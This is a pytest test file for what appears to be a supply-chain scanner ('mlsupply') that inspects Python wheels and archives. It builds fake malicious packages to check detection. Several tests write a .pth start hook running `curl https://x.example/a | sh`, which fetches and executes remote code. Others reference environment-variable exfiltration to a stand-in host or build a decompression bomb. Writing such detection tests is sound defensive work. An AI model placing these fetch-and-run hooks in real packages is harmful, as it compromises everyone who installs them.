"""What is told of an archive: the account of what runs when, a release beside the one before, the verb `inspect`."""

from __future__ import annotations

import io
import json
import tarfile
import zipfile
from collections.abc import Iterator
from pathlib import Path

import pytest
from click.testing import CliRunner

from mlsupply.cli import main
from mlsupply.evidence.account import account
from mlsupply.evidence.compare import compared
from mlsupply.evidence.package import look_inside
from mlsupply.evidence.pool import Pool
from tests.made_wheels import BAD, CLEAN, PAYLOAD, put, wheel


@pytest.fixture(scope="module")
def pool() -> Iterator[Pool]:
    with Pool(1) as one:
        yield one


def test_the_account_says_what_runs_when_also_where_nothing_is_wrong(tmp_path: Path, pool: Pool) -> None:
    clean = "\n".join(account(look_inside(put(tmp_path, "demo-1.0-py3-none-any.whl", wheel(CLEAN)), pool)))
    assert "when it is imported: nothing that asks the network" in clean
    bad = "\n".join(account(look_inside(put(tmp_path, "demo-1.1-py3-none-any.whl", wheel(BAD)), pool)))
    assert "sends all environment variables to https://c.example/e (demo/__init__.py:2)" in bad


def test_a_release_is_held_against_the_one_before(tmp_path: Path, pool: Pool) -> None:
    before = look_inside(put(tmp_path, "demo-1.0-py3-none-any.whl", wheel(CLEAN)), pool, subject="1.0")
    now = look_inside(
        put(
            tmp_path,
            "demo-1.1-py3-none-any.whl",
            wheel({**BAD, "demo.pth": b"import demo\n", "demo/r.js": b"x" * 2_000_000}),
        ),
        pool,
    )
    changes = {change.kind: change for change in compared(now, before)}
    assert set(changes) == {"new-start-hook", "new-behaviour", "new-language", "grew"}
    assert changes["new-start-hook"].member == "demo.pth"
    assert not list(compared(now, now))


def test_inspect_prints_the_account_and_the_findings(tmp_path: Path) -> None:
    path = put(tmp_path, "demo-1.0-py3-none-any.whl", wheel(BAD))
    done = CliRunner().invoke(main, ["inspect", "--offline", str(path)], env={"MLSUPPLY_CACHE_DIR": str(tmp_path / "c")})
    assert done.exit_code == 1, done.output
    assert "when it is imported:" in done.output
    assert "MLS-C010" in done.output
    clean = put(tmp_path, "demo-1.1-py3-none-any.whl", wheel(CLEAN))
    done = CliRunner().invoke(main, ["inspect", "--offline", str(clean)], env={"MLSUPPLY_CACHE_DIR": str(tmp_path / "c")})
    assert done.exit_code == 0, done.output


def test_inspect_takes_folders_and_writes_json(tmp_path: Path) -> None:
    tree = tmp_path / "tree"
    (tree / "demo").mkdir(parents=True)
    (tree / "pyproject.toml").write_text('[project]\nname = "Demo.Kit"\nversion = "2.0"\n')
    (tree / "demo" / "__init__.py").write_bytes(PAYLOAD)
    done = CliRunner().invoke(main, ["inspect", "--offline", "-o", "json", str(tree)])
    document = json.loads(done.stdout)
    assert document["packages"][0]["purl"] == "pkg:pypi/demo-kit@2.0"
    (finding,) = document["findings"]
    assert (finding["id"], finding["severity"], finding["moment"]) == ("MLS-C010", "critical", "import")
    assert finding["places"][0]["member"] == "demo/__init__.py"
    assert any(quote["label"] == "chain" for quote in finding["quotes"])


def test_inspect_of_what_is_not_there_names_the_next_step(tmp_path: Path) -> None:
    done = CliRunner().invoke(main, ["inspect", str(tmp_path / "gone.whl")])
    assert done.exit_code == 2
    assert "there is no file or folder" in done.output
    assert "NAME==VERSION" in done.output
    done = CliRunner().invoke(main, ["inspect", "--offline", "demo==1.0"])
    assert done.exit_code == 3


def test_a_folder_of_wheels_is_inspected_wheel_by_wheel(tmp_path: Path) -> None:
    folder = tmp_path / "wheels" / "deeper"
    folder.mkdir(parents=True)
    with zipfile.ZipFile(folder / "evil-1.0-py3-none-any.whl", "w") as wheel:
        wheel.writestr("evil.pth", "import os;os.system('curl https://x.example/a | sh')\n")
        wheel.writestr("evil-1.0.dist-info/METADATA", "Metadata-Version: 2.1\nName: evil\nVersion: 1.0\n")
        wheel.writestr("evil-1.0.dist-info/RECORD", "")
    done = CliRunner().invoke(main, ["inspect", "--offline", str(tmp_path / "wheels")])
    assert done.exit_code == 1, done.output
    assert "evil.pth" in done.output


def test_what_is_named_twice_is_told_once(tmp_path: Path) -> None:
    path = put(tmp_path, "demo-1.0-py3-none-any.whl", wheel(CLEAN))
    done = CliRunner().invoke(main, ["inspect", "--offline", str(tmp_path), str(path), f"{tmp_path}/./{path.name}"])
    assert done.output.count("demo-1.0-py3-none-any.whl: ") == 1
    assert "2 packages" in done.output, "the folder and the wheel"


@pytest.mark.parametrize("name", ["app.tar", "app.pyz", "lib.jar", "APP.ZIP"])
def test_every_kind_of_archive_in_a_folder_is_looked_into(tmp_path: Path, name: str) -> None:
    """Those that are no release were files like others, and the folder passed."""
    line = b"import os;os.system('curl https://x.example/a | sh')\n"
    with tarfile.open(tmp_path / name, "w") if name.endswith("tar") else zipfile.ZipFile(tmp_path / name, "w") as packed:
        if isinstance(packed, zipfile.ZipFile):
            packed.writestr("evil.pth", line)
        else:
            member = tarfile.TarInfo("evil.pth")
            member.size = len(line)
            packed.addfile(member, io.BytesIO(line))
    (tmp_path / "mine.py").write_text("x = 1\n")
    done = CliRunner().invoke(main, ["inspect", "--offline", str(tmp_path)])
    assert (done.exit_code, "evil.pth" in done.output) == (1, True), done.output


def test_a_page_saved_under_the_name_of_a_wheel_is_no_model(tmp_path: Path) -> None:
    for name in ("demo-1.0-py3-none-any.whl", "notes.xyz"):
        (tmp_path / name).write_text("<html>404</html>", encoding="ascii")
    done = CliRunner().invoke(main, ["inspect", "--offline", *map(str, sorted(tmp_path.iterdir()))])
    said = " ".join(done.output.split())
    assert (done.exit_code, said.count("get it again"), said.count("if it is a model")) == (3, 1, 1), done.output


def test_what_an_archive_as_a_whole_is_is_said_of_it(tmp_path: Path) -> None:
    """The name of a member stood there, and was empty."""
    member = tarfile.TarInfo("zeros.bin")
    member.size = 40 << 20
    with tarfile.open(tmp_path / "demo-1.0.tar.gz", "w:gz") as packed:
        packed.addfile(member, io.BytesIO(bytes(member.size)))
    said = CliRunner().invoke(main, ["inspect", "--offline", str(tmp_path / "demo-1.0.tar.gz")]).output
    assert "the whole archive may be a decompression bomb" in said
    assert "    bomb: \n" not in said


def test_inspect_tells_a_dozen_of_a_moment_and_all_with_v(tmp_path: Path) -> None:
    """`and 20 more`, and no way to see them."""
    calls = "".join(f"def f{n}(host):\n    urllib.request.urlopen(host)\n" for n in range(32)).encode()
    path = put(tmp_path, "demo-1.0-py3-none-any.whl", wheel({"demo/__init__.py": b"import urllib.request\n" + calls}))
    short = CliRunner().invoke(main, ["inspect", "--offline", str(path)])
    assert short.output.count("asks the network (") == 12
    assert "    and 20 more: -v shows all\n" in short.output
    whole = CliRunner().invoke(main, ["inspect", "--offline", "-v", str(path)])
    assert (whole.exit_code, whole.output.count("asks the network (")) == (short.exit_code, 32)
    assert "asks the network (demo/__init__.py:3): what exactly, only a run would tell\n" in whole.output


def test_archives_in_a_folder_of_which_there_is_nothing_to_tell_are_counted(tmp_path: Path) -> None:
    """A folder of two hundred libraries of Java took a thousand lines."""
    for number in range(5):
        with zipfile.ZipFile(tmp_path / f"lib{number}.jar", "w") as packed:
            packed.writestr("org/demo/A.class", b"\xca\xfe\xba\xbe" + bytes(40))
    (tmp_path / "mine.py").write_text("x = 1\n", encoding="ascii")
    short = CliRunner().invoke(main, ["inspect", "--offline", str(tmp_path)]).output
    assert short.count("lib0.jar") == 1
    assert "5 archives without Python, and nothing to tell of: " in short
    assert "lib2.jar and 2 more; -v tells of each" in short
    whole = CliRunner().invoke(main, ["inspect", "--offline", "-v", str(tmp_path)]).output
    assert "lib4.jar: 1 file, 44 bytes; 0 Python files" in whole
    named = [str(tmp_path / name) for name in ("lib4.jar", "mine.py")]
    assert "lib4.jar: 1 file, 44 bytes; 0 Python files" in CliRunner().invoke(main, ["inspect", "--offline", *named]).output
